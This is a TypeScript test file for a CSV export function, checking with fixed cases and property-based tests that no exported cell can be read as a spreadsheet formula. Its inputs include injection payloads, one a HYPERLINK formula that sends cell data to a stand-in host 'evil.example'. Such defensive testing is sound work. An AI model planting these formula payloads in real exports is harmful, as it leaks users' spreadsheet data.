import fc from 'fast-check'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { toCsv } from './export-view.js'

const table = (text: string, delimiter: ',' | '\t') =>
  toCsv({ results: [{ index: 0, relevance_score: 0.5, document: { text } }] }, delimiter)

/** Cells as a reader sees them that heeds quotes, and as one does that knows lines and semicolons alone. */
const cells = (csv: string, delimiter: string) => [
  ...Papa.parse<string[]>(csv, { delimiter }).data.flat(),
  ...csv.split(/[\r\n\v\f\u0085\u2028\u2029]/),
  ...csv.split(';'),
]

const isFormula = (cell: string) => /^[=+\-@＝＋－＠]/.test(cell)

test.each([
  '=HYPERLINK("http://evil.example/?"&A1,"x")\nsecond line',
  'first line\n=1+1',
  'first line\r\n=1+1',
  'first\r@SUM(A1)',
  'first\u2028=1+1',
  '\t=1+1',
  'a;=1+1',
  '＝1+1',
  '-1+1\n',
])('no cell of %j is a formula', (text) => {
  for (const delimiter of [',', '\t'] as const)
    expect(cells(table(text, delimiter), delimiter).filter(isFormula)).toEqual([])
})

test('any text: no formula, and nothing lost but for apostrophes', () => {
  const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\u2028', ';', ',', '"', "'", 'a', ' ')
  const text = fc.oneof(
    fc.array(piece).map((pieces) => pieces.join('')),
    fc.string({ unit: 'binary' }),
  )
  fc.assert(
    fc.property(text, fc.constantFrom(',' as const, '\t' as const), (text, delimiter) => {
      const csv = table(text, delimiter)
      expect(cells(csv, delimiter).filter(isFormula)).toEqual([])
      const [, row] = Papa.parse<string[]>(csv, { delimiter, newline: '\r\n' }).data
      expect(row?.[3]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
    }),
    { seed: 1, numRuns: 2000 },
  )
})
